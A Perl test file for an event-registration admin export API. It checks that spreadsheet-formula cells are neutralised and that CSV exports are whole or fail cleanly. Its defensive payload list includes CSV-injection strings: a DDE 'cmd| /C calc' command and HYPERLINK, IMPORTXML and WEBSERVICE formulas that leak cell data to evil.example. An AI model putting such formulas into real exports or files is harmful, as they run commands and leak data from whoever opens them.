# GET /api/admin/export/…: what people wrote stays text, and a file is whole or
# it is an error.
use v5.36;
use utf8;
use ET::BadInput qw(is_problem);
use ET::Desk;
use ET::FastCGI;
use ET::Worker;
use File::Temp qw(tempdir);
use JSON::PP qw(decode_json);
use Test::More;
use Time::HiRes qw(sleep);

my $path = '/api/admin/export/registrations';
my $desk = ET::Desk->new;
my $db = $desk->db;
my $dir = tempdir(CLEANUP => 1);
my $w = ET::Worker->new('export', db => $db, env => { SPOOL_DIR => $dir });
my @as = (token => $desk->token('reviewer'));

# ---- formulas stay text -------------------------------------------------------------
my @starts = ('=', '+', '-', '@', '＝', '＋', '－', '＠');
my @ends = ('1+1', 'cmd|\' /C calc\'!A0', 'SUM(A1:A9)',
	'HYPERLINK("https://evil.example?x="&A1,"Error: please click")',
	'IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
	'WEBSERVICE("https://evil.example")', 'A1', "2+5+cmd|' /C calc'!A0");
my @before = ('', ' ', '"', 'x,', 'x;', 'x; "');
my @payloads = map { my $b = $_; map { my $s = $_; map { "$b$s$_" } @ends }
	@starts } @before;
cmp_ok(scalar @payloads, '>', 150, scalar(@payloads) . ' payloads');
$db->query('insert into app.registration (event_id, name, email, phone,
	team_name, tickets, status, payment_reference) select 1, p,
	i || $$@example.org$$, $$+49 30 123456$$, p, 1, $$pending$$, p
	from unnest(array[' . join(',', map { ET::Desk::quote($_) } @payloads)
	. ']) with ordinality x(p, i)');

# What Python makes of it, with each separator that a spreadsheet may take.
sub cells ($bytes) {
	open my $out, '>:raw', "$dir/file.csv" or die $!;
	print $out $bytes;
	close $out;
	open my $in, '-|', 'python3', '-c', <<'PY', "$dir/file.csv" or die $!;
import csv, json, sys
rows = []
for separator in ',;\t':
    with open(sys.argv[1], newline='', encoding='utf-8') as f:
        rows.append(list(csv.reader(f, delimiter=separator)))
print(json.dumps(rows))
PY
	return decode_json(do { local $/; <$in> });
}

for my $as ('', '&separator=semicolon', '&separator=tab') {
	my $r = $w->get("$path.csv?columns=name,team_name,payment_reference$as",
		@as);
	my $rows = cells($r->{body});
	my @run = grep { /^[\s"]*[=+\-\@＝＋－＠]/ }
		map { map { @$_ } @$_ } @$rows;
	is("@run", '', 'no cell begins a formula, wherever it is split'
		. ($as && " ($as)"));
	my ($right) = grep { @{ $_->[1] } == 3 } @$rows;
	my @got = map { $_->[0] =~ s/'(?=[=+\-\@＝＋－＠])//gr } @$right;
	shift @got;
	is_deeply([ sort @got ], [ sort map { s/'(?=[=+\-\@＝＋－＠])//gr }
		@payloads ], '… and nothing else was changed');
}
my @lines = map { decode_json($_)->{name} } split /\n/,
	$w->get("$path.jsonl?columns=name", @as)->{body};
is_deeply([ sort @lines ], [ sort @payloads ], 'JSON lines say it as it is');

# ---- a file is whole, or an error ------------------------------------------------------
$db->query("insert into app.registration (event_id, name, email, phone,
	tickets, status) select 1, 'Person ' || i, 'q' || i || '\@example.org',
	'+49 30 123456', 1, 'pending' from generate_series(1, 20000) i");
my $whole = length $w->get("$path.csv", @as)->{body};
cmp_ok($whole, '>', 1_000_000, "a file of $whole bytes");
is_deeply([ grep { !/file.csv/ } glob "$dir/*" ], [],
	'… leaves nothing behind on the disk');

my ($pid) = $w->pids;
is(system('prlimit', '--pid', $pid, '--fsize=100000:unlimited'), 0,
	'no room on the disk');
is_problem($w->get("$path.csv", @as), 503, 'unavailable',
	'… is told, instead of half a file');
system('prlimit', '--pid', $pid, '--fsize=unlimited:unlimited');
is(length $w->get("$path.csv", @as)->{body}, $whole, 'with room again it is whole');

my $lost = ET::Worker->new('export', db => $db,
	env => { SPOOL_DIR => "$dir/nowhere" });
is_problem($lost->get("$path.csv", @as), 503, 'unavailable',
	'a directory that is not there');
is($lost->get("$path.csv?q=Person+17&columns=id", @as)->{status}, 200,
	'… matters only to what is large');
$lost->done;

# The server is told to end while rows are on their way: one of them is slow.
$db->query(q{create function public.slow(t text) returns text language plpgsql
	as $$ begin perform pg_sleep(60); return t; end $$;
	grant usage on schema public to public;
	create or replace function app.serial_shown(serial text) returns text
	language sql as 'select public.slow(serial)'});
$desk->register(approve => 1);
my $asked = $w->send(GET => '/api/admin/export/tickets.csv', @as);
ok(ET::Worker::wait_for(sub { $db->query(q{select count(*) from
	pg_stat_activity where wait_event = 'PgSleep'}) > 0 }), 'a slow export');
$db->query(q{select pg_terminate_backend(pid) from pg_stat_activity
	where wait_event = 'PgSleep'});
ok(ET::Worker::wait_for(sub { $db->query(q{select count(*) from
	pg_stat_activity where wait_event = 'PgSleep'}) > 0 }),
	'… is begun anew, nothing of it was sent');
$db->query(q{select pg_terminate_backend(pid) from pg_stat_activity
	where wait_event = 'PgSleep'});
is_problem(ET::Worker::decode($asked->answer(30)), 503, 'unavailable',
	'… and given up the second time');
is($w->get("$path.csv?columns=id&q=Person+17", @as)->{status}, 200,
	'the next one works');

# ---- somebody who leaves in the middle --------------------------------------------------
my $gone = $w->send(GET => "$path.csv", @as);
undef $gone;
cmp_ok(length $w->get("$path.csv", @as)->{body}, '>', $whole,
	'who leaves is in nobody\'s way');
$w->done;
done_testing;
